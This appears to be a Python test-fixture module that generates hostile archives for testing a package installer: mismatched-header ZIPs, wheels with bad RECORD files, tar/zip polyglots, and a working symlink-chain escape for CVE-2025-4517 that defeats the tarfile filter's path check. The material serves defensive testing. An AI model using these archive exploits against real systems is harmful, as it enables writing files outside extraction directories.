"""Hostile archives built on the fly: a ZIP writer that can make its local headers and central
directory disagree (zipfile cannot), wheels with a broken RECORD, tars that escape through
symlinks, and polyglot files that are a tar and a zip at once."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


@dataclass
class Member:
    """One ZIP entry; the ``local_*`` fields, when set, are what the local header claims
    instead of the truth the central directory tells."""

    name: str | bytes
    data: bytes = b""
    method: int = zipfile.ZIP_DEFLATED
    mode: int = 0o100644
    flags: int | None = None  # default: 0x800 (UTF-8) for non-ASCII names
    declared_size: int | None = None  # what both headers say the data inflates to
    local_name: bytes | None = None
    local_crc: int | None = None
    local_compressed_size: int | None = None
    local_method: int | None = None
    in_central: bool = True  # False: only a local header (hidden from the central directory)
    extra: bytes = b""

    @property
    def raw_name(self) -> bytes:
        return self.name if isinstance(self.name, bytes) else self.name.encode("utf-8")


def raw_zip(
    members: list[Member],
    *,
    prefix: bytes = b"",
    comment: bytes = b"",
    trailer: bytes = b"",
    absolute_offsets: bool = False,
) -> bytes:
    """A ZIP archive written byte by byte. ``prefix`` comes before the first entry (offsets
    stay relative to the archive unless ``absolute_offsets``), ``trailer`` after the end
    record."""
    out = io.BytesIO()
    base = len(prefix) if absolute_offsets else 0
    out.write(prefix)
    central = io.BytesIO()
    count = 0
    for m in members:
        if m.method == zipfile.ZIP_DEFLATED:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = c.compress(m.data) + c.flush()
        else:
            packed = m.data
        crc = zlib.crc32(m.data)
        size = len(m.data) if m.declared_size is None else m.declared_size
        name = m.raw_name
        flags = m.flags if m.flags is not None else (0 if name.isascii() else 0x800)
        offset = out.tell() - len(prefix) + base
        local_name = m.local_name if m.local_name is not None else name
        out.write(
            struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                flags,
                m.local_method if m.local_method is not None else m.method,
                0,
                0x5021,
                m.local_crc if m.local_crc is not None else crc,
                m.local_compressed_size if m.local_compressed_size is not None else len(packed),
                size,
                len(local_name),
                len(m.extra),
            )
        )
        out.write(local_name + m.extra + packed)
        if not m.in_central:
            continue
        count += 1
        central.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                0x031E,
                20,
                flags,
                m.method,
                0,
                0x5021,
                crc,
                len(packed),
                size,
                len(name),
                len(m.extra),
                0,
                0,
                0,
                m.mode << 16,
                offset,
            )
        )
        central.write(name + m.extra)
    cd_offset = out.tell() - len(prefix) + base
    cd = central.getvalue()
    out.write(cd)
    out.write(
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(cd), cd_offset, len(comment))
    )
    out.write(comment + trailer)
    return out.getvalue()


def wheel_members(
    name: str = "hostile",
    version: str = "1.0",
    files: Mapping[str, bytes] | None = None,
    *,
    metadata_name: str | None = None,
    metadata_version: str | None = None,
    dist_info: str | None = None,
    record: str | None = None,
) -> dict[str, bytes]:
    """A wheel's members with a RECORD that is right unless ``record`` replaces it."""
    dist_info = dist_info or f"{name}-{version}.dist-info"
    members = dict(files if files is not None else {f"{name}/__init__.py": b"VALUE = 1\n"})
    members[f"{dist_info}/METADATA"] = (
        "Metadata-Version: 2.1\n"
        f"Name: {metadata_name or name}\nVersion: {metadata_version or version}\n\n"
    ).encode()
    members[f"{dist_info}/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: cove-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    if record is None:
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\n")
        for path, data in members.items():
            writer.writerow([path, record_hash(data), len(data)])
        writer.writerow([f"{dist_info}/RECORD", "", ""])
        record = buf.getvalue()
    members[f"{dist_info}/RECORD"] = record.encode()
    return members


def write_wheel(directory: Path, members: Mapping[str, bytes], name: str = "hostile") -> Path:
    """``members`` as a wheel made by zipfile (a well-formed ZIP)."""
    directory.mkdir(parents=True, exist_ok=True)
    wheel = directory / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in members.items():
            info = zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return wheel


@dataclass
class TarEntry:
    name: str
    data: bytes = b""
    type: bytes = tarfile.REGTYPE
    link: str = ""
    mode: int = 0o644
    pax: dict[str, str] = field(default_factory=dict)


def tar_bytes(entries: list[TarEntry], compression: str = "gz") -> bytes:
    """A tar archive (``compression``: "", "gz", "bz2" or "xz") of ``entries``, pax format."""
    buf = io.BytesIO()
    mode = f"w:{compression}" if compression else "w"
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as tf:  # type: ignore[call-overload]  # a mode chosen at run time
        for e in entries:
            info = tarfile.TarInfo(e.name)
            info.type, info.linkname, info.mode = e.type, e.link, e.mode
            info.size, info.mtime = len(e.data), 1577836800
            if e.type == tarfile.DIRTYPE:
                info.mode = 0o755
            info.pax_headers = dict(e.pax)
            tf.addfile(info, io.BytesIO(e.data) if e.type == tarfile.REGTYPE else None)
    return buf.getvalue()


def project_entries(root: str, files: Mapping[str, bytes] | None = None) -> list[TarEntry]:
    """An sdist tree ``root/`` holding a pyproject.toml and ``files``."""
    entries = [
        TarEntry(f"{root}/pyproject.toml", b'[project]\nname = "x"\nversion = "1.0"\n'),
        TarEntry(f"{root}/PKG-INFO", b"Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"),
    ]
    entries += [TarEntry(f"{root}/{path}", data) for path, data in (files or {}).items()]
    return entries


def path_max_escape(unpack_dir: str, escape_to: str, up: int = 1) -> list[TarEntry]:
    """The symlink chain of CVE-2025-4517: nested links whose resolved path passes PATH_MAX,
    so os.path.realpath (and the tarfile data filter built on it, before CPython 3.11.13,
    3.12.11 and 3.13.4) stops resolving them while the kernel does not. ``escape`` then leads
    ``up`` directories above the unpack directory (``unpack_dir``, an absolute path of the
    length the real one will have), and a file written through it lands at
    ``<unpack dir>/../(up times)/<escape_to>``."""
    steps = "abcdefghijklmnop"
    path_max = os.pathconf("/", "PC_PATH_MAX") if hasattr(os, "pathconf") else 4096
    component = "d" * ((path_max - len(unpack_dir) - 1) // (len(steps) + 1))
    entries: list[TarEntry] = []
    path = ""
    for step in steps:
        entries.append(TarEntry(os.path.join(path, component), type=tarfile.DIRTYPE))
        entries.append(TarEntry(os.path.join(path, step), type=tarfile.SYMTYPE, link=component))
        path = os.path.join(path, component)
    deep_link = os.path.join(*steps, "l" * 254)
    entries.append(TarEntry(deep_link, type=tarfile.SYMTYPE, link="/".join([".."] * len(steps))))
    entries.append(TarEntry("escape", type=tarfile.SYMTYPE, link=deep_link + "/.." * up))
    entries.append(TarEntry(f"escape/{escape_to}", b"written outside the unpack directory\n"))
    return entries


def polyglot(tar: bytes, zip_data: bytes) -> bytes:
    """A file that reads as ``tar`` (which ends where the tar stream does) and, to readers that
    take a zip's end record and tolerate data before it (Python's zipfile), as ``zip_data``."""
    return tar + zip_data
